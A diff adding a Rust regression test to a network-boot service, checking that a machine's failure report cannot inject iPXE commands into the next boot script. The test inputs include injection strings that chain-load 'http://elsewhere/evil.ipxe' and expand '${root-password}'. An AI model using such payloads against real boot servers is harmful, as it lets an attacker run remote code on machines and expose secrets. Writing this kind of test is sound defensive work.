@@ -312,6 +312,50 @@ async fn refusals_are_all_alike_and_tokens_expire_and_are_revoked() {
     assert!((5..=6).contains(&allowed), "{allowed}");
 }
 
+/// A machine's failure report must not reach the iPXE script served while the task is
+/// failed: a report body ending in `x ; chain http://elsewhere/evil.ipxe` made the next
+/// PXE boot run `chain` when the reason was pasted after `echo`.
+#[tokio::test]
+async fn regression_a_failure_report_cannot_add_ipxe_commands() {
+    let l = lab(true).await;
+    bind_lease(&l).await;
+    let base = "http://s";
+    let a = l.tasks.create(input(&l)).await.unwrap();
+    for body in [
+        "log line\nx ; chain http://elsewhere/evil.ipxe",
+        "x && chain http://elsewhere/evil.ipxe",
+        "x ${root-password} #",
+        "x\0\nchain http://elsewhere/evil.ipxe",
+    ] {
+        let token = token_of(&l, a.id);
+        l.tasks.answer(a.id, &token, peer(), "s", base).await.unwrap();
+        let r = l
+            .tasks
+            .report(a.id, &token, ReportKind::Failed, body, peer())
+            .await
+            .unwrap();
+        assert_eq!(r.state, TaskState::Failed);
+        let s = l.tasks.boot_script(mac(), peer(), base).await.unwrap().unwrap();
+        assert!(
+            !s.contains("elsewhere") && !s.contains('$') && !s.contains(';') && !s.contains('\0'),
+            "{s}"
+        );
+        assert!(
+            s.lines()
+                .all(|line| line.starts_with("#!ipxe") || line.starts_with("echo Bootlane: ") || line == "exit"),
+            "{s}"
+        );
+        // The reason keeps the machine's words for the UI and the API.
+        let t = l.tasks.get(a.id).unwrap();
+        assert!(
+            t.reason.as_deref().unwrap().contains(body.lines().last().unwrap()),
+            "{:?}",
+            t.reason
+        );
+        l.tasks.retry(a.id).await.unwrap();
+    }
+}
+
 #[tokio::test]
 async fn deadlines_failures_holds_and_retries() {
     let l = lab(false).await;
